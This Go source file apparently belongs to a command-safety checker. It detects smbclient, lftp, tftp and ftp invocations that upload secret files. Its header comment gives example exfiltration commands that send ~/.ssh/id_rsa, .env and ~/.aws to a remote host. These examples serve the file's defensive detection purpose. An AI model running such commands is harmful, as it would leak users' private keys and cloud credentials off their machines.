package patterns

import (
	"strings"
)

// File-transfer clients that take their commands as a string send the
// files those commands name (b7a, issue 7 #6): `smbclient //h/s -c 'put
// ~/.ssh/id_rsa'`, `lftp -e 'put .env; bye' ftp://h`, `lftp -c 'open h;
// mirror -R ~/.aws /up'`, `tftp h -c put ~/.ssh/id_rsa`, BSD ftp's `-u
// URL FILE…`. [transfer-secret] judges such a client's program word by
// the local files its commands upload: put, mput and reput, mirror's
// local directory when it mirrors up (-R, --reverse), after an lcd the
// string makes. A file that is a [secret] (a credentials path, a
// directory holding one, the home, a dotenv file) makes it certain; a
// string the line does not know is left alone, as `curl -d @"$F"` is.

// transferClients are the clients [transfer-secret] reads, and the
// options that carry their command strings.
var transferClients = lazy[map[string][]string]{build: func() map[string][]string {
	return map[string][]string{
		"smbclient": {"-c", "--command"},
		"lftp":      {"-c", "-e"},
		"tftp":      nil, // -c takes the rest of the line as its words
		"ftp":       nil, // -u URL FILE…
	}
}}

// judgeTransferSecret is [transfer-secret].
func judgeTransferSecret(_ string, w Word, ctx *Context) Judgement {
	name, ok := programWordKey(w)
	if !ok {
		return Judgement{}
	}
	opts, known := transferClients.get()[name]
	if !known {
		return Judgement{}
	}
	p := ctx.programPart(w)
	if p == nil {
		return Judgement{}
	}
	var files []Word   // bash's words, which it expands itself
	var named []string // the files the clients' own command strings name
	args := p.Args()
	for i := 0; i < len(args); i++ {
		a, ok := args[i].Literal()
		if !ok {
			continue
		}
		switch {
		case name == "tftp" && a == "-c":
			files = append(files, uploadWords(args[i+1:])...)
			i = len(args)
		case name == "ftp" && a == "-u" && i+1 < len(args):
			files = append(files, args[i+2:]...)
			i = len(args)
		default:
			for _, o := range opts {
				if val, ok := strings.CutPrefix(a, o+"="); ok && strings.HasPrefix(o, "--") {
					named = append(named, scriptUploads(val)...)
				} else if a == o && i+1 < len(args) {
					if s, ok := args[i+1].Literal(); ok {
						named = append(named, scriptUploads(s)...)
					}
					i++
				}
			}
		}
	}
	for _, f := range named {
		if f == "~" || strings.HasPrefix(f, "~/") {
			f = strings.TrimSuffix(ctx.Home, "/") + f[1:] // these clients' own ~, read as the home
		}
		files = append(files, LitWord(f))
	}
	for _, f := range files {
		if judgeSecretFile(f, ctx).Certainly {
			return Judgement{Might: true, Certainly: true}
		}
	}
	return Judgement{}
}

// uploadWords returns the words of tftp's `-c put …` that name local
// files: all its operands but a last remote name (put FILE REMOTE, put
// F1 F2 REMOTEDIR), or the one file.
func uploadWords(ws []Word) []Word {
	if len(ws) == 0 {
		return nil
	}
	if v, ok := ws[0].Literal(); !ok || v != "put" {
		return nil
	}
	ws = ws[1:]
	if len(ws) > 1 {
		return ws[:len(ws)-1]
	}
	return ws
}

// scriptUploads returns the local files a command string of smbclient
// or lftp uploads, joined to the local directory an lcd before them
// names. Commands are split at ; and &&, words at blanks (quotes are
// dropped).
func scriptUploads(script string) []string {
	var out []string
	lcd := ""
	script = strings.ReplaceAll(script, "&&", ";")
	for _, cmd := range strings.FieldsFunc(script, func(r rune) bool { return r == ';' || r == '\n' }) {
		f := strings.Fields(strings.NewReplacer(`"`, "", `'`, "").Replace(cmd))
		if len(f) == 0 {
			continue
		}
		if f[0] == "lcd" && len(f) > 1 {
			lcd = f[1]
			continue
		}
		for _, u := range uploads(f) {
			if lcd != "" && !strings.HasPrefix(u, "/") && !strings.HasPrefix(u, "~") {
				u = strings.TrimSuffix(lcd, "/") + "/" + u
			}
			out = append(out, u)
		}
	}
	return out
}

// uploads returns the local files one transfer command (its words)
// sends: the operands of put, mput and reput (not an -o/-O value), and
// the local directory of mirror -R.
func uploads(f []string) []string {
	if len(f) == 0 {
		return nil
	}
	var ops []string
	reverse := false
	for i := 1; i < len(f); i++ {
		switch a := f[i]; {
		case a == "-o" || a == "-O":
			i++ // the remote name or base
		case a == "-R" || a == "--reverse" || strings.HasPrefix(a, "-") && !strings.HasPrefix(a, "--") && strings.Contains(a, "R"):
			reverse = true
		case strings.HasPrefix(a, "-"):
		default:
			ops = append(ops, a)
		}
	}
	switch f[0] {
	case "put", "reput":
		if len(ops) > 1 && f[0] == "put" {
			return ops[:1] // smbclient's and tftp's put LOCAL REMOTE; lftp's put A B sends both, and A is enough to judge
		}
		return ops
	case "mput":
		return ops
	case "mirror":
		if reverse && len(ops) > 0 {
			return ops[:1]
		}
	}
	return nil
}
